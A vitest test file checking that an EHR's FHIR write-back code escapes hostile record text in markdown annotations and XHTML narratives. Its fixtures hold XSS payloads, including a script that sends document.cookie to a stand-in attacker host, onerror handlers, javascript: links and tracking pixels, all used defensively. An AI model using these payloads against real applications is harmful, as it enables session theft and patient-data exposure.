/**
 * Text written to the chart is data, never markup. Hostile record text (a condition display holding an <img onerror>,
 * a <script>, a javascript: link, a tracking image) goes into Annotation.text (markdown in R4) escaped, so that even
 * a permissive renderer (raw HTML on, bare-URL autolinks on: markdown-it with html and linkify) shows the characters
 * and creates no element; plain-string fields keep the text as it is; a generated narrative is XHTML that FHIR's
 * narrative rules allow, with the text escaped.
 */
import MarkdownIt from 'markdown-it';
import type { Resource } from 'fhir/r4';
import { describe, expect, it } from 'vitest';
import { escapeMarkdown, escapeXhtml, narrativeXhtml, plainText } from '../../../src/fhir/writeback/escape';
import { chosen, draft } from './fixture';

const HOSTILE = [
  '<img src=x onerror="alert(document.cookie)">',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '[click here](javascript:alert(1))',
  '![](https://tracker.example/pixel.gif?patient=p1)',
  '<https://evil.example/autolink>',
  'see https://evil.example/phish and www.evil.example',
  '&lt;script&gt; as an entity',
  '**bold** _em_ `code` ~~strike~~ | a | b |',
  '# heading',
  '- list item',
  '1. ordered',
  '> quote',
  'two\nlines\r\n<b>and</b> markup',
  '[ref]: https://evil.example "title"',
  'back\\slash \\<img src=x onerror=alert(1)>',
  'ctrl\u0000chars\u0007 and a lone \uD800 surrogate',
];

/** markdown-it with everything an EHR might switch on: raw HTML and bare-URL links. */
const permissive = new MarkdownIt({ html: true, linkify: true });

/** The rendered HTML without its paragraph wrapper, entities decoded: what a reader sees. */
function renderedText(markdown: string): { html: string; text: string } {
  const html = permissive.render(markdown).trim();
  const container = document.createElement('div');
  container.innerHTML = html;
  return { html, text: container.textContent ?? '' };
}

describe('escapeMarkdown', () => {
  it.each(HOSTILE)('%j renders as one paragraph of exactly its own text, with no element but <p>', (hostile) => {
    const { html, text } = renderedText(escapeMarkdown(hostile));
    expect(html.startsWith('<p>') && html.endsWith('</p>')).toBe(true);
    expect(html.slice(3, -4)).not.toMatch(/<[a-z!/]/i);
    expect(text).toBe(plainText(hostile));
  });

  it('leaves ordinary clinical text readable (only markup characters are escaped)', () => {
    expect(escapeMarkdown('Reason: 2 failed adequate trials (sertraline 100 mg, venlafaxine 150 mg) [MedicationRequest/s1]'))
      .toBe('Reason: 2 failed adequate trials (sertraline 100 mg, venlafaxine 150 mg) \\[MedicationRequest/s1\\]');
  });
});

describe('narrativeXhtml', () => {
  it('builds a div in the XHTML namespace with one escaped <p> per line, parseable as XML, with no other element or attribute', () => {
    const narrative = narrativeXhtml(HOSTILE);
    expect(narrative.status).toBe('generated');
    const doc = new DOMParser().parseFromString(narrative.div, 'application/xhtml+xml');
    expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
    const root = doc.documentElement;
    expect(root.localName).toBe('div');
    expect(root.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    const elements = [root, ...Array.from(root.getElementsByTagName('*'))];
    expect(new Set(elements.map((e) => e.localName))).toEqual(new Set(['div', 'p']));
    for (const element of elements) {
      expect(Array.from(element.attributes).map((a) => a.name)).toEqual(element === root ? ['xmlns'] : []);
    }
    expect(Array.from(root.getElementsByTagName('p')).map((p) => p.textContent)).toEqual(HOSTILE.map(plainText));
  });

  it('holds some text even when given none (txt-2)', () => {
    expect(narrativeXhtml(['', '  ']).div).toBe('<div xmlns="http://www.w3.org/1999/xhtml"><p>(no text)</p></div>');
  });

  it('escapes the five XML special characters', () => {
    expect(escapeXhtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });
});

describe('the write-back draft with hostile record text', () => {
  const [ect, dose] = chosen(['ect', 'dose-optimization']);
  const hostileReason = (text: string) => ({ text, sources: ['Condition/evil'] });
  const d = draft({
    chosen: [
      { ...ect!, reasons: HOSTILE.map(hostileReason), cautions: [hostileReason('<img src=x onerror=alert(2)>')] },
      { ...dose!, reasons: [hostileReason('[click](javascript:alert(3))')] },
    ],
    note: '![track](https://tracker.example/p.gif) <script>alert(4)</script>',
    overrideReasons: { ect: '<iframe src="https://evil.example">' },
  });
  const resources = (d.bundle.entry ?? []).map((e) => e.resource as Resource);

  it('every Annotation.text (markdown) renders to text only, and holds the hostile strings as text', () => {
    const notes = [...d.serviceRequests.flatMap((sr) => sr.note ?? []), ...(d.carePlan.note ?? [])];
    expect(notes.length).toBeGreaterThan(HOSTILE.length);
    const shown: string[] = [];
    for (const note of notes) {
      const { html, text } = renderedText(note.text);
      expect(html.slice(3, -4)).not.toMatch(/<[a-z!/]/i);
      shown.push(text);
    }
    for (const hostile of HOSTILE) expect(shown).toContain(`Reason: ${plainText(hostile)}`);
    // Resource ids stay out of the chart's prose (the resources are linked as supportingInfo).
    expect(shown.join('\n')).not.toContain('Condition/evil');
    expect(shown).toContain("Clinician's note: ![track](https://tracker.example/p.gif) <script>alert(4)</script>");
    expect(shown.some((t) => t.includes('reason given by the clinician: “<iframe src="https://evil.example">'))).toBe(true);
  });

  it('plain-string fields (CodeableConcept.text) keep the text as it is: FHIR strings are not markup', () => {
    const reasons = d.carePlan.activity?.flatMap((a) => a.detail?.reasonCode ?? []).map((r) => r.text) ?? [];
    expect(reasons).toContain('Reason: [click](javascript:alert(3))');
  });

  it('any narrative in the draft is escaped XHTML with only allowed elements', () => {
    for (const resource of resources) {
      const div = (resource as { text?: { div?: string } }).text?.div;
      if (div === undefined) continue;
      const doc = new DOMParser().parseFromString(div, 'application/xhtml+xml');
      expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
      expect(doc.documentElement.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
      for (const element of Array.from(doc.getElementsByTagName('*'))) {
        expect(['div', 'p', 'span', 'b', 'i', 'em', 'strong', 'ul', 'ol', 'li', 'br', 'table', 'tr', 'td', 'th', 'thead', 'tbody', 'h1', 'h2', 'h3', 'h4']).toContain(element.localName);
        for (const attribute of Array.from(element.attributes)) expect(attribute.name).not.toMatch(/^on|^style$|^href$|^src$/i);
      }
    }
  });
});
